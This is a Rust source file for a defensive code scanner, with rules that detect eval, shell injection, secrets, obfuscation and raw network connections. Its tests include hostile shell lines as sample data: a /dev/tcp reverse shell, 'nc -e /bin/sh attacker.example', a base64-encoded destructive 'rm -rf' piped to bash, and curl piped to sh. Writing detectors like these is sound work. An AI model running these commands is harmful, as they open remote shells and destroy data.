//! The built-in rules. Each walks a tree-sitter syntax tree, so `eval` in a comment or a string
//! is not a call, and a call split across lines is still one call.

use std::sync::LazyLock;

use regex::Regex;
use tree_sitter::{Node, Parser};

use super::{Finding, Lang, Severity};

mod js;
mod python;
mod shell;

use js::js;
use python::python;
use shell::shell;

/// Every built-in rule: id, severity, what it finds, how to fix it.
pub const RULES: &[(&str, Severity, &str, &str)] = &[
    (
        "PY001",
        Severity::High,
        "eval()/exec() of dynamic code",
        "parse the data (json, ast.literal_eval) instead of executing it",
    ),
    (
        "PY002",
        Severity::High,
        "shell command: os.system/os.popen, or subprocess with shell=True",
        "call subprocess.run([...]) with an argument list and shell=False",
    ),
    (
        "PY003",
        Severity::High,
        "unsafe deserialisation (pickle, marshal, shelve, dill)",
        "use json or another data-only format for untrusted input",
    ),
    (
        "PY004",
        Severity::High,
        "yaml.load without a safe loader",
        "use yaml.safe_load(...)",
    ),
    (
        "JS001",
        Severity::High,
        "eval(), new Function() or a string passed to setTimeout/setInterval",
        "parse data with JSON.parse; pass functions, not strings",
    ),
    (
        "JS002",
        Severity::High,
        "child_process exec/execSync, or spawn with shell: true",
        "use execFile/spawn with an argument array and no shell",
    ),
    (
        "SH001",
        Severity::High,
        "a download piped into a shell or interpreter",
        "download to a file, verify its checksum, then run it",
    ),
    (
        "SH002",
        Severity::Medium,
        "eval in shell",
        "avoid eval; use arrays and explicit commands",
    ),
    (
        "SEC001",
        Severity::High,
        "a hard-coded private key",
        "load keys from a secret store or the environment",
    ),
    (
        "SEC002",
        Severity::High,
        "a hard-coded cloud or API token",
        "revoke it and read it from the environment",
    ),
    (
        "SEC003",
        Severity::Medium,
        "a hard-coded password or secret",
        "read secrets from the environment or a secret store",
    ),
    (
        "FS001",
        Severity::High,
        "a write or delete outside the workspace (/work, /tmp)",
        "write only under the workspace",
    ),
    (
        "NET001",
        Severity::Medium,
        "a network address given as a raw IP, or a raw /dev/tcp or netcat connection",
        "use host names on the allow-list",
    ),
    (
        "OBF001",
        Severity::High,
        "decoded data executed (base64/hex/zlib into eval, exec or a shell)",
        "ship readable code",
    ),
    (
        "OBF002",
        Severity::Medium,
        "a long encoded blob in the source",
        "ship readable code and data files",
    ),
];

fn meta(id: &str) -> (Severity, &'static str, &'static str) {
    RULES
        .iter()
        .find(|r| r.0 == id)
        .map(|r| (r.1, r.2, r.3))
        .unwrap_or((Severity::Medium, "", ""))
}

struct Ctx<'a> {
    file: &'a str,
    src: &'a [u8],
    whole: &'a str,
    out: Vec<Finding>,
}

impl Ctx<'_> {
    fn add(&mut self, id: &str, line: usize, detail: &str) {
        let (severity, what, fix) = meta(id);
        let message = if detail.is_empty() {
            what.to_string()
        } else {
            format!("{what}: {detail}")
        };
        self.out.push(Finding {
            rule: id.into(),
            severity,
            file: self.file.into(),
            line,
            message,
            fix: fix.into(),
            tool: "baton".into(),
        });
    }
    fn text(&self, n: Node) -> &str {
        n.utf8_text(self.src).unwrap_or("")
    }
}

fn line(n: Node) -> usize {
    n.start_position().row + 1
}

fn short(s: &str) -> String {
    let one = s.split_whitespace().collect::<Vec<_>>().join(" ");
    if one.chars().count() > 80 {
        format!("{}...", one.chars().take(77).collect::<String>())
    } else {
        one
    }
}

static PRIVATE_KEY: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"-----BEGIN ((RSA|DSA|EC|OPENSSH|ENCRYPTED|PGP) )?PRIVATE KEY( BLOCK)?-----").ok()
});
static TOKENS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(AKIA|ASIA)[0-9A-Z]{16}|gh[pousr]_[A-Za-z0-9]{36}|github_pat_[A-Za-z0-9_]{60,}|xox[baprs]-[A-Za-z0-9-]{10,}|sk-[A-Za-z0-9_-]{32,}|AIza[0-9A-Za-z_-]{35}|glpat-[A-Za-z0-9_-]{20}").ok()
});
static SECRET_NAME: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i)(passw(or)?d|passwd|secret|api_?key|apikey|access_?key|auth_?token|private_?key|token)$").ok()
});
static RAW_IP: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r"^(?:[a-z][a-z0-9+.-]*://)?(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})(?::\d+)?(?:/.*)?$",
    )
    .ok()
});
static BLOB: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"^[A-Za-z0-9+/=_-]{200,}$|^(?:\\x[0-9a-fA-F]{2}){50,}$|^[0-9a-fA-F]{300,}$").ok()
});
static DECODE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"b64decode|b32decode|a85decode|decodebytes|unhexlify|fromhex|zlib\.decompress|codecs\.decode|rot.?13|atob\(|Buffer\.from\([^)]*(base64|hex)").ok()
});

fn re(r: &LazyLock<Option<Regex>>) -> Option<&Regex> {
    r.as_ref()
}

/// Whether a literal IP is one code should not be talking to directly (anything but
/// loopback and the unspecified address).
fn raw_ip(s: &str) -> bool {
    let Some(c) = re(&RAW_IP).and_then(|r| r.captures(s.trim())) else {
        return false;
    };
    let octets: Vec<u32> = (1..=4)
        .filter_map(|i| c.get(i)?.as_str().parse().ok())
        .collect();
    octets.len() == 4
        && octets.iter().all(|o| *o <= 255)
        && octets[0] != 127
        && octets != [0, 0, 0, 0]
}

/// Whether a path literal points outside the workspace.
fn outside(p: &str) -> bool {
    let p = p.trim();
    if p.starts_with('~') || p.starts_with("$HOME") || p.contains("../") || p == ".." {
        return true;
    }
    if !p.starts_with('/') {
        return false;
    }
    ![
        "/work",
        "/tmp",
        "/dev/null",
        "/dev/stdout",
        "/dev/stderr",
        "/dev/fd/",
        "/proc/self/fd/",
    ]
    .iter()
    .any(|ok| {
        p == *ok
            || p.starts_with(&format!("{}/", ok.trim_end_matches('/')))
            || (ok.ends_with('/') && p.starts_with(ok))
    })
}

fn unquote(s: &str) -> &str {
    let s = s.trim();
    let s = s.trim_start_matches(['r', 'b', 'f', 'u', 'R', 'B', 'F', 'U']);
    s.trim_matches(|c| c == '"' || c == '\'' || c == '`')
}

pub fn scan(lang: Lang, file: &str, text: &str) -> Vec<Finding> {
    let mut ctx = Ctx {
        file,
        src: text.as_bytes(),
        whole: text,
        out: Vec::new(),
    };
    // Secrets are leaks wherever they are, comments included: line-based.
    for (i, l) in text.lines().enumerate() {
        if re(&PRIVATE_KEY).is_some_and(|r| r.is_match(l)) {
            ctx.add("SEC001", i + 1, "");
        }
        if let Some(m) = re(&TOKENS).and_then(|r| r.find(l)) {
            let t = m.as_str();
            ctx.add("SEC002", i + 1, &format!("{}...", &t[..t.len().min(6)]));
        }
    }
    let language: tree_sitter::Language = match lang {
        Lang::Python => tree_sitter_python::LANGUAGE.into(),
        Lang::JavaScript => tree_sitter_javascript::LANGUAGE.into(),
        Lang::TypeScript => tree_sitter_typescript::LANGUAGE_TYPESCRIPT.into(),
        Lang::Tsx => tree_sitter_typescript::LANGUAGE_TSX.into(),
        Lang::Shell => tree_sitter_bash::LANGUAGE.into(),
    };
    let mut parser = Parser::new();
    if parser.set_language(&language).is_err() {
        return ctx.out;
    }
    let Some(tree) = parser.parse(text, None) else {
        return ctx.out;
    };
    let mut stack = vec![tree.root_node()];
    while let Some(n) = stack.pop() {
        match lang {
            Lang::Python => python(&mut ctx, n),
            Lang::JavaScript | Lang::TypeScript | Lang::Tsx => js(&mut ctx, n),
            Lang::Shell => shell(&mut ctx, n),
        }
        for i in (0..n.child_count()).rev() {
            if let Some(c) = n.child(i) {
                stack.push(c);
            }
        }
    }
    ctx.out
}

fn string_checks(ctx: &mut Ctx, n: Node, raw: &str) {
    let s = unquote(raw);
    if raw_ip(s) {
        ctx.add("NET001", line(n), &short(s));
    }
    if re(&BLOB).is_some_and(|r| r.is_match(s)) {
        ctx.add("OBF002", line(n), &format!("{} characters", s.len()));
    }
}

/// SEC003 for a node whose `key` field names a secret and whose `value` field is a literal
/// (`unquote_key` for object keys written as strings).
fn keyed_secret(ctx: &mut Ctx, n: Node, key: &str, value: &str, unquote_key: bool) {
    if let (Some(k), Some(v)) = (n.child_by_field_name(key), n.child_by_field_name(value)) {
        let text = ctx.text(k);
        let name = if unquote_key { unquote(text) } else { text }.to_string();
        secret_assignment(ctx, &name, v);
    }
}

fn secret_assignment(ctx: &mut Ctx, name: &str, value: Node) {
    let v = ctx.text(value).to_string();
    let is_literal = matches!(value.kind(), "string" | "template_string" | "raw_string");
    let inner = unquote(&v);
    if is_literal
        && inner.len() >= 8
        && !inner.contains(' ')
        && re(&SECRET_NAME).is_some_and(|r| r.is_match(name.trim()))
    {
        ctx.add("SEC003", line(value), name.trim());
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;

    fn rules(lang: Lang, src: &str) -> Vec<String> {
        let mut v: Vec<String> = scan(lang, "t", src).into_iter().map(|f| f.rule).collect();
        v.sort();
        v.dedup();
        v
    }

    #[test]
    fn python_rules() {
        assert_eq!(rules(Lang::Python, "eval(input())"), ["PY001"]);
        assert_eq!(
            rules(Lang::Python, "# eval(x) in a comment\ns = 'eval(x)'\n"),
            Vec::<String>::new()
        );
        assert_eq!(
            rules(
                Lang::Python,
                "import subprocess\nsubprocess.run(cmd,\n  shell=True)\n"
            ),
            ["PY002"]
        );
        assert_eq!(
            rules(
                Lang::Python,
                "import subprocess\nsubprocess.run(['ls'], shell=False)\n"
            ),
            Vec::<String>::new()
        );
        assert_eq!(
            rules(Lang::Python, "import os\nos.system('rm x')"),
            ["PY002"]
        );
        assert_eq!(rules(Lang::Python, "pickle.loads(blob)"), ["PY003"]);
        assert_eq!(rules(Lang::Python, "yaml.load(f)"), ["PY004"]);
        assert_eq!(
            rules(Lang::Python, "yaml.load(f, Loader=yaml.SafeLoader)"),
            Vec::<String>::new()
        );
        assert_eq!(
            rules(Lang::Python, "open('/etc/passwd', 'w').write('x')"),
            ["FS001"]
        );
        assert_eq!(
            rules(Lang::Python, "open('/etc/passwd').read()"),
            Vec::<String>::new()
        );
        assert_eq!(
            rules(Lang::Python, "open('/work/out.txt', 'w')"),
            Vec::<String>::new()
        );
        assert_eq!(rules(Lang::Python, "open('../../x', 'a')"), ["FS001"]);
        assert_eq!(
            rules(Lang::Python, "requests.get('http://203.0.113.9/x')"),
            ["NET001"]
        );
        assert_eq!(
            rules(Lang::Python, "requests.get('http://127.0.0.1:8000/x')"),
            Vec::<String>::new()
        );
        assert_eq!(
            rules(
                Lang::Python,
                "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))"
            ),
            ["OBF001", "PY001"]
        );
        assert_eq!(
            rules(Lang::Python, "password = 'hunter2hunter2'"),
            ["SEC003"]
        );
        assert_eq!(
            rules(Lang::Python, "password = os.environ['PW']"),
            Vec::<String>::new()
        );
        assert_eq!(
            rules(Lang::Python, "k = 'AKIAABCDEFGHIJKLMNOP'"),
            ["SEC002"]
        );
        assert_eq!(
            rules(
                Lang::Python,
                "KEY = '''-----BEGIN RSA PRIVATE KEY-----\nabc'''"
            ),
            ["SEC001"]
        );
        let blob = format!("x = '{}'", "QUFB".repeat(60));
        assert_eq!(rules(Lang::Python, &blob), ["OBF002"]);
    }

    #[test]
    fn js_and_ts_rules() {
        assert_eq!(rules(Lang::JavaScript, "eval(userInput)"), ["JS001"]);
        assert_eq!(
            rules(Lang::JavaScript, "const f = new Function('a', 'return a')"),
            ["JS001"]
        );
        assert_eq!(
            rules(
                Lang::JavaScript,
                "setTimeout('alert(1)', 10); setTimeout(() => 1, 10)"
            ),
            ["JS001"]
        );
        assert_eq!(
            rules(
                Lang::JavaScript,
                "const cp = require('child_process');\ncp.exec('ls ' + dir)"
            ),
            ["JS002"]
        );
        assert_eq!(
            rules(
                Lang::JavaScript,
                "const cp = require('child_process');\ncp.spawn('ls', [dir])"
            ),
            Vec::<String>::new()
        );
        assert_eq!(
            rules(
                Lang::JavaScript,
                "const cp = require('child_process');\ncp.spawn('ls', [dir], {shell: true})"
            ),
            ["JS002"]
        );
        assert_eq!(rules(Lang::JavaScript, "/a/.exec(s)"), Vec::<String>::new());
        assert_eq!(
            rules(Lang::JavaScript, "fs.writeFileSync('/etc/hosts', 'x')"),
            ["FS001"]
        );
        assert_eq!(
            rules(Lang::JavaScript, "fetch('https://198.51.100.7/api')"),
            ["NET001"]
        );
        assert_eq!(
            rules(Lang::JavaScript, "eval(atob('YWxlcnQoMSk='))"),
            ["JS001", "OBF001"]
        );
        assert_eq!(
            rules(
                Lang::TypeScript,
                "const apiKey: string = 'abcdef123456';\nlet x: number = eval('1')"
            ),
            ["JS001", "SEC003"]
        );
        assert_eq!(
            rules(Lang::Tsx, "const A = () => <div>{eval(s)}</div>;"),
            ["JS001"]
        );
        assert_eq!(
            rules(
                Lang::JavaScript,
                "const t = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789'"
            ),
            ["SEC002"]
        );
    }

    #[test]
    fn shell_rules() {
        assert_eq!(
            rules(Lang::Shell, "curl -fsSL https://x.example/i.sh | sh"),
            ["SH001"]
        );
        assert_eq!(
            rules(Lang::Shell, "curl -fsSL https://x.example/i.sh -o i.sh"),
            Vec::<String>::new()
        );
        assert_eq!(
            rules(Lang::Shell, "echo cm0gLXJmIC8K | base64 -d | bash"),
            ["OBF001"]
        );
        assert_eq!(rules(Lang::Shell, "eval \"$CMD\""), ["SH002"]);
        assert_eq!(rules(Lang::Shell, "echo x > /etc/cron.d/job"), ["FS001"]);
        assert_eq!(
            rules(Lang::Shell, "echo x > /work/out; echo y 2>/dev/null"),
            Vec::<String>::new()
        );
        assert_eq!(rules(Lang::Shell, "rm -rf /usr/lib"), ["FS001"]);
        assert_eq!(
            rules(Lang::Shell, "rm -rf /work/build"),
            Vec::<String>::new()
        );
        assert_eq!(
            rules(Lang::Shell, "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
            ["NET001"]
        );
        assert_eq!(
            rules(Lang::Shell, "nc -e /bin/sh attacker.example 4444"),
            ["NET001"]
        );
        assert_eq!(rules(Lang::Shell, "PASSWORD='correcthorse99'"), ["SEC003"]);
    }
}
